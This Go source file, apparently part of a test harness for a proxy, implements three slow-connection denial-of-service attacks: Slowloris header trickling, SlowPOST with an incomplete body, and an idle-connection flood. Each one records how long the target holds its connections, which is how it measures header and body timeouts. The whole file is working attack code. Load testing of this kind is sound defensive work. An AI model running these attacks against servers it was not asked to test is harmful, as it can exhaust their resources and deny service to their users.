package attack

import (
	"context"
	"fmt"
	"strings"
	"time"
)

// Slowloris opens Conns connections and sends a request head one byte every
// Interval, never the blank line that ends it: a server without a header
// timeout keeps every one of them, and a goroutine and buffer per connection.
type Slowloris struct {
	Addr     string // host:port of the proxy
	Host     string // Host header (default: Addr)
	Path     string // request path (default "/")
	Conns    int
	Interval time.Duration // between trickled bytes (default 200 ms)
	// Max is how long each connection is held at most: the attacker gives up
	// then, so a server that never times it out shows as held for Max.
	Max time.Duration
}

// Run holds the connections and returns each one's record.
func (s Slowloris) Run(ctx context.Context) []Conn {
	host := s.Host
	if host == "" {
		host = s.Addr
	}
	path := s.Path
	if path == "" {
		path = "/"
	}
	interval := s.Interval
	if interval <= 0 {
		interval = 200 * time.Millisecond
	}
	first := []byte(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n", path, host))
	// Header lines forever, each valid and none ending the head.
	trickle := []byte("X-Slowloris: 1\r\n")
	slots := newDialSlots(64)
	return many(s.Conns, slots, func(dialed func()) Conn {
		return hold(ctx, dialed, s.Addr, first, trickle, interval, s.Max)
	})
}

// SlowPOST opens Conns connections, each sending a complete request head with
// Content-Length, then Send bytes of the body, then nothing: the body never
// completes. A server without a body timeout waits for it forever, and a
// gateway that streams bodies also holds an upstream request per attacker.
type SlowPOST struct {
	Addr          string
	Host          string
	Path          string
	Conns         int
	ContentLength int // default 100
	Send          int // body bytes actually sent (default 10)
	Max           time.Duration
}

// Run holds the connections and returns each one's record; Silent is when
// the last body byte was sent, the start of the body timeout.
func (s SlowPOST) Run(ctx context.Context) []Conn {
	host := s.Host
	if host == "" {
		host = s.Addr
	}
	cl, send := s.ContentLength, s.Send
	if cl <= 0 {
		cl = 100
	}
	if send <= 0 {
		send = 10
	}
	send = min(send, cl-1)
	req := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s",
		s.Path, host, cl, strings.Repeat("x", send))
	slots := newDialSlots(64)
	return many(s.Conns, slots, func(dialed func()) Conn {
		return hold(ctx, dialed, s.Addr, []byte(req), nil, 0, s.Max)
	})
}

// IdleFlood opens Conns connections that send nothing at all, at most
// Parallel connects at a time, and holds each for at most Max.
type IdleFlood struct {
	Addr     string
	Conns    int
	Parallel int // connects in flight (default 64)
	Max      time.Duration
}

// Run holds the connections and returns each one's record.
func (f IdleFlood) Run(ctx context.Context) []Conn {
	slots := newDialSlots(f.Parallel)
	return many(f.Conns, slots, func(dialed func()) Conn {
		return hold(ctx, dialed, f.Addr, nil, nil, 0, f.Max)
	})
}
